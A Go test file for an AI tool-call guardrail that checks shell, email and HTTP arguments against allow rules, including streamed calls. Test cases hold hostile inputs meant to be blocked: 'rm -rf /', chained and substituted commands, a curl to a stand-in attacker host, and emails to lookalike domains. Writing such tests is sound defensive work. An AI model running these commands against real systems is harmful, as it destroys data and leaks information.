@@ -0,0 +1,137 @@
+package guardrails
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+var toolRulesConfig = &Config{Prevention: PreventionConfig{Tools: ToolFilterConfig{
+	Enabled: true,
+	Rules: []ToolArgRule{
+		{Tool: "run_shell", Argument: "command", Pattern: `(ls|cat|grep)( [-\w./]+)*`},
+		{Tool: "send_email", Argument: "to", AllowedDomains: []string{"example.com"}},
+		{Tool: "http_get", Argument: "url", AllowedHosts: []string{"api.example.com", "*.docs.example.com"}},
+	},
+}}}
+
+func TestCheckToolCalls(t *testing.T) {
+	tests := []struct {
+		call    ToolCall
+		blocked bool
+	}{
+		{ToolCall{"run_shell", `{"command":"ls -la"}`}, false},
+		{ToolCall{"run_shell", `{"command":"rm -rf /"}`}, true},
+		{ToolCall{"run_shell", `{"command":"ls; rm -rf /"}`}, true},
+		{ToolCall{"run_shell", `{"command":"cat notes.txt && curl evil.test"}`}, true},
+		{ToolCall{"run_shell", `{"command":"grep x $(id)"}`}, true},
+		{ToolCall{"send_email", `{"to":"ops@example.com"}`}, false},
+		{ToolCall{"send_email", `{"to":["ops@example.com","leak@evil.test"]}`}, true},
+		{ToolCall{"send_email", `{"to":"Ops <ops@EXAMPLE.com>, x@example.com.evil.test"}`}, true},
+		{ToolCall{"http_get", `{"url":"https://api.example.com/v1"}`}, false},
+		{ToolCall{"http_get", `{"url":"https://v2.docs.example.com/page"}`}, false},
+		{ToolCall{"http_get", `{"url":"https://api.example.com.evil.test/"}`}, true},
+		{ToolCall{"http_get", `{"url":"/relative"}`}, true},
+		{ToolCall{"http_get", `not json`}, true},
+		{ToolCall{"http_get", `{}`}, true}, // argument absent
+		{ToolCall{"run_shell", `{"cmd":"rm -rf /"}`}, true},
+		{ToolCall{"run_shell", ``}, true},
+		{ToolCall{"send_email", `{"cc":"a@evil.test"}`}, true},
+		{ToolCall{"send_email", `{"to":null}`}, true},
+		{ToolCall{"send_email", `{"to":[{"email":"a@evil.test"}]}`}, true},
+		{ToolCall{"send_email", `{"to":{"email":"a@evil.test"}}`}, true},
+		{ToolCall{"read_file", `{"path":"/etc/passwd"}`}, false},
+	}
+	for _, tt := range tests {
+		v := CheckToolCalls(toolRulesConfig, "s1", []ToolCall{tt.call})
+		if (v != nil) != tt.blocked {
+			t.Errorf("%s %s: violation = %+v, want blocked=%v", tt.call.Name, tt.call.Arguments, v, tt.blocked)
+		}
+		if v != nil && (v.Rule != "tool_argument" || v.SessionID != "s1" || v.Details["tool_name"] != tt.call.Name) {
+			t.Errorf("violation = %+v", v)
+		}
+	}
+}
+
+func TestResponseToolCallsShapes(t *testing.T) {
+	bodies := []string{
+		`{"choices":[{"message":{"tool_calls":[{"function":{"name":"run_shell","arguments":"{\"command\":\"rm x\"}"}}]}}]}`,
+		`{"content":[{"type":"text","text":"ok"},{"type":"tool_use","name":"run_shell","input":{"command":"rm x"}}]}`,
+		`{"output":[{"type":"function_call","name":"run_shell","arguments":"{\"command\":\"rm x\"}"}]}`,
+	}
+	for _, body := range bodies {
+		calls := ResponseToolCalls([]byte(body))
+		if len(calls) != 1 || CheckToolCalls(toolRulesConfig, "", calls) == nil {
+			t.Errorf("%s: calls = %+v", body, calls)
+		}
+	}
+}
+
+func TestToolCallGuardAssemblesStreamedCalls(t *testing.T) {
+	// OpenAI: arguments arrive in fragments and are checked at finish_reason.
+	g := NewToolCallGuard(toolRulesConfig, "s1")
+	events := []string{
+		`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"name":"run_shell","arguments":""}}]}}]}`,
+		`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"command\":\"rm "}}]}}]}`,
+		`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"-rf /\"}"}}]}}]}`,
+	}
+	for _, e := range events {
+		if v := g.Scan([]byte(e)); v != nil {
+			t.Fatalf("violation before the call completed: %+v", v)
+		}
+	}
+	if v := g.Scan([]byte(`{"choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}`)); v == nil {
+		t.Error("expected a violation at finish_reason")
+	}
+
+	// Anthropic: checked at content_block_stop.
+	g = NewToolCallGuard(toolRulesConfig, "s1")
+	g.Scan([]byte(`{"type":"content_block_start","index":1,"content_block":{"type":"tool_use","name":"send_email","input":{}}}`))
+	g.Scan([]byte(`{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"to\":\"a@evil.test\"}"}}`))
+	if v := g.Scan([]byte(`{"type":"content_block_stop","index":1}`)); v == nil || v.Details["tool_name"] != "send_email" {
+		t.Errorf("violation = %+v", v)
+	}
+
+	// Responses API: checked at output_item.done.
+	g = NewToolCallGuard(toolRulesConfig, "s1")
+	if v := g.Scan([]byte(`{"type":"response.output_item.done","output_index":0,"item":{"type":"function_call","name":"http_get","arguments":"{\"url\":\"https://api.example.com/x\"}"}}`)); v != nil {
+		t.Errorf("allowed call flagged: %+v", v)
+	}
+
+	if NewToolCallGuard(&Config{}, "s1") != nil {
+		t.Error("guard should be nil without rules")
+	}
+}
+
+func TestPreventionAnnotatesToolSchemas(t *testing.T) {
+	body := []byte(`{"model":"gpt-4o","tools":[
+		{"type":"function","function":{"name":"run_shell","parameters":{"type":"object","properties":{"command":{"type":"string","description":"Shell command."}}}}},
+		{"name":"send_email","input_schema":{"type":"object","properties":{"to":{"type":"string"}}}}]}`)
+
+	result := EvaluatePrevention(toolRulesConfig, body, "", []string{"run_shell", "send_email"}, "gpt-4o", 0)
+	if !result.ToolsConstrained || result.ModifiedBody == nil {
+		t.Fatalf("result = %+v", result)
+	}
+	got := string(result.ModifiedBody)
+	if !strings.Contains(got, `"pattern":"^(?:(ls|cat|grep)( [-\\w./]+)*)$"`) {
+		t.Errorf("pattern not added: %s", got)
+	}
+	if !strings.Contains(got, `Shell command. (Policy: must match`) || !strings.Contains(got, `addresses must be at example.com`) {
+		t.Errorf("descriptions not annotated: %s", got)
+	}
+}
+
+func TestLoadConfigValidatesToolRules(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "guardrails.yaml")
+	for _, rule := range []string{
+		"{argument: command, pattern: x}",
+		"{tool: run_shell, argument: command}",
+		"{tool: run_shell, argument: command, pattern: \"(\"}",
+	} {
+		os.WriteFile(path, []byte("prevention:\n  tools:\n    enabled: true\n    rules:\n      - "+rule+"\n"), 0644)
+		if _, err := LoadConfig(path); err == nil {
+			t.Errorf("%s: expected an error", rule)
+		}
+	}
+}